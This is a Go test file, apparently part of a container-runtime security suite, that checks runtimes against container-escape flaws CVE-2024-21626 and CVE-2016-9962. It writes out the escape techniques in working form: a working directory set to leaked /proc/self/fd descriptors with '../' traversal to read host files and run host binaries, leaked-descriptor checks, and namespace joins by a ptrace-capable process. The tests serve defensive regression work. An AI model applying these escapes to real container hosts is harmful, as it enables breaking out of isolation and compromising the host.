@@ -1,0 +1,169 @@
+package cve
+
+import (
+	"fmt"
+	"os"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestCwdFD(t *testing.T) {
+	p := attack(t, "2024-21626", "cwd /proc/self/fd/N, run and exec", "none here (Debian has the fix)")
+	up := strings.Repeat("../", 12)
+	script := "cat ./" + up + strings.TrimPrefix(p.victim, "/") + "/marker"
+	p.bundle("sleep", "args:/bin/sleep 1000")
+	id, _ := p.detached("sleep")
+	p.config("b", "sh:"+script)
+	for n := 3; n <= 15; n++ {
+		dir := "/proc/self/fd/" + strconv.Itoa(n)
+		p.config("b", "process.cwd="+dir)
+		if res := p.run("b"); strings.Contains(res.Stdout, "HOST-MARKER") {
+			p.falls("run with cwd %s reads the host", dir)
+		}
+		if res := p.try("exec", "--cwd", dir, id, "/bin/sh", "-c", script); strings.Contains(res.Stdout, "HOST-MARKER") {
+			p.falls("exec with cwd %s reads the host", dir)
+		}
+		// A program of the host, by the same way.
+		exe := dir + "/" + up + "bin/true"
+		p.config("b", "process.cwd=/", `process.args=["`+exe+`"]`)
+		if res := p.run("b"); res.Code == 0 {
+			p.falls("run of %s executes the host's", exe)
+		}
+		if res := p.try("exec", id, exe); res.Code == 0 {
+			p.falls("exec of %s executes the host's", exe)
+		}
+		p.config("b", "sh:"+script)
+	}
+	p.remove(id)
+}
+
+func TestLeakedFDs(t *testing.T) {
+	p := attack(t, "2024-21626", "descriptors above 2 in run and exec", "none here (Debian has the fix)",
+		"sh:for f in /proc/self/fd/*; do readlink $f; done; sleep 1000")
+	id, out := p.detached("b")
+	if !p.waitOutput(out, "stdout") && !p.waitOutput(out, "/") {
+		t.Fatal("no output")
+	}
+	time.Sleep(100 * time.Millisecond)
+	text, err := os.ReadFile(out)
+	p.check(err)
+	texts := []string{string(text)}
+	texts = append(texts, p.try("exec", id, "/bin/sh", "-c", "for f in /proc/self/fd/*; do readlink $f; done").Stdout)
+	texts = append(texts, p.try("exec", id, "/bin/ls", "/proc/self/fd/").Stdout)
+	for _, s := range texts {
+		for line := range strings.Lines(s) {
+			line = strings.TrimSpace(line)
+			if n, err := strconv.Atoi(line); err == nil && n > 3 || strings.Contains(line, "cgroup") || line == "/" {
+				p.falls("%q is open", line)
+			}
+		}
+	}
+	// The waiting process, too: who joins its pid namespace sees it.
+	p.bundle("c")
+	cid := p.tag + "-c"
+	p.must("create", "-b", p.path("c"), cid)
+	dir := fmt.Sprintf("/proc/%d/fd", p.pid(cid))
+	entries, err := os.ReadDir(dir)
+	p.check(err)
+	for _, e := range entries {
+		if to, _ := os.Readlink(dir + "/" + e.Name()); e.Name() > "2" && strings.HasPrefix(to, "/") && !strings.Contains(to, "exec.fifo") {
+			p.falls("the created container holds %s", to)
+		}
+	}
+	p.remove(cid)
+	p.remove(id)
+}
+
+// userns gives a bundle a user namespace in which everything is mapped as it is: what it reaches is the host's.
+var userns = []string{`linux.namespaces+={"type":"user"}`, `linux.uidMappings=[{"containerID":0,"hostID":0,"size":65536}]`,
+	`linux.gidMappings=[{"containerID":0,"hostID":0,"size":65536}]`}
+
+// shifted gives a bundle a user namespace with ids of its own.
+var shifted = []string{`linux.namespaces+={"type":"user"}`, `linux.uidMappings=[{"containerID":0,"hostID":100000,"size":65536}]`,
+	`linux.gidMappings=[{"containerID":0,"hostID":100000,"size":65536}]`}
+
+// A first process that can trace all it sees looks for the host behind those that join it.
+func TestJoinTraced(t *testing.T) {
+	bites := map[string]string{
+		"no CAP_SYS_PTRACE startContainer":             "vsrun before its fix",
+		"with CAP_SYS_PTRACE exec":                     "crun 1.8.1 (fd 7)",
+		"user namespace create":                        "crun 1.8.1",
+		"user namespace startContainer":                "crun 1.8.1",
+		"user namespace of its own ids create":         "crun 1.8.1",
+		"user namespace of its own ids startContainer": "crun 1.8.1",
+	}
+	for _, c := range []struct {
+		name  string
+		edits []string
+	}{
+		{"no CAP_SYS_PTRACE", nil},
+		{"with CAP_SYS_PTRACE", []string{allCaps}},
+		{"user namespace", append([]string{allCaps}, userns...)},
+		{"user namespace of its own ids", append([]string{allCaps}, shifted...)},
+	} {
+		for _, how := range []string{"exec", "create", "startContainer", "createContainer"} {
+			t.Run(strings.ReplaceAll(c.name+" "+how, " ", "-"), func(t *testing.T) {
+				p := attack(t, "2016-9962", "pid 1 looks behind "+how+": "+c.name, bites[c.name+" "+how], "root.readonly=false")
+				edits := append([]string{"args:/bin/probe look " + p.victim + "/marker"}, c.edits...)
+				edits = append(edits, "-mounts[destination=/sys/fs/cgroup]")
+				p.bundle("a", edits...)
+				for d := p.dir; strings.HasPrefix(d, os.TempDir()+"/"); d = d[:strings.LastIndex(d, "/")] {
+					p.check(os.Chmod(d, 0o755))
+				}
+				res := p.tryDetached("a")
+				if res.Code != 0 {
+					t.Skipf("no such container here: %.200s", res.Stderr)
+				}
+				id, out := p.tag+"-a", p.path("a.out")
+				if !p.waitOutput(out, "ready") {
+					t.Fatal("the attacker does not run")
+				}
+				ns := fmt.Sprintf("/proc/%d/ns/", p.pid(id))
+				joined := []string{"linux.namespaces[type=pid].path=" + ns + "pid", "-mounts[destination=/sys/fs/cgroup]"}
+				if len(c.edits) > 1 {
+					joined = append(joined, `linux.namespaces+={"type":"user","path":"`+ns+`user"}`)
+				}
+				p.config("b", joined...)
+				if strings.HasSuffix(how, "Container") {
+					p.config("b", `hooks={"`+how+`":[{"path":"/bin/true"},{"path":"/bin/true"},{"path":"/bin/true"}]}`)
+				}
+				failed := ""
+				for range 20 {
+					if how == "exec" {
+						p.try("exec", id, "/bin/true")
+					} else if res := p.run("b"); res.Code != 0 {
+						failed = res.Stderr
+					}
+				}
+				if failed != "" {
+					p.note("the joining container did not run: %.100s", strings.TrimSpace(failed))
+				}
+				text, _ := os.ReadFile(out)
+				p.Logf("the attacker: %s", text)
+				if strings.Contains(string(text), "REACHED") {
+					lines := strings.Split(string(text), "\n")
+					var got []string
+					for _, l := range lines {
+						if strings.HasPrefix(l, "REACHED") {
+							got = append(got, strings.TrimPrefix(l, "REACHED by "))
+						}
+					}
+					switch {
+					case c.name == "with CAP_SYS_PTRACE" && how != "exec":
+						// It may trace the host's root in its pid namespace, and the new container is built there: the kernel
+						// offers nothing against that.
+						p.note("information: reached by %v", got)
+					case how == "createContainer" && len(c.edits) > 1:
+						// These hooks are programs of the host, in the host's root (pivot_root comes after them).
+						p.note("information: the hook was reached by %v", got)
+					default:
+						p.falls("the host was reached by %v", got)
+					}
+				}
+				p.remove(id)
+			})
+		}
+	}
+}
